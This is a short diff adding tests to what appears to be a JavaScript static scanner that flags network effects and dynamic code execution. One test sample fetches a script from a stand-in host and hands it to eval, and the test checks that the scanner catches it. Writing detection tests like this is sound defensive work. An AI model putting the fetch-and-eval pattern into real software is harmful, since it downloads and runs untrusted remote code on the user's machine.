@@ -141,3 +141,15 @@ describe('node: evasions', () => {
     expect(scan('[].constructor.constructor(code)()').dynamic.length).toBe(1);
   });
 });
+
+describe('node: callbacks and descriptors', () => {
+  it('a sink handed to a promise is still a sink', () => {
+    const r = scan("fetch('https://x.example/p.js').then((r) => r.text()).then(eval)");
+    expect(effects(r)).toEqual(['net.fetch https://x.example/p.js']);
+    expect(r.dynamic).toEqual(['node eval() runs code built at run time']);
+  });
+
+  it('reading stdin by descriptor is not a file read', () => {
+    clean(scan("console.log(JSON.parse(require('fs').readFileSync(0, 'utf8')).name)"));
+  });
+});
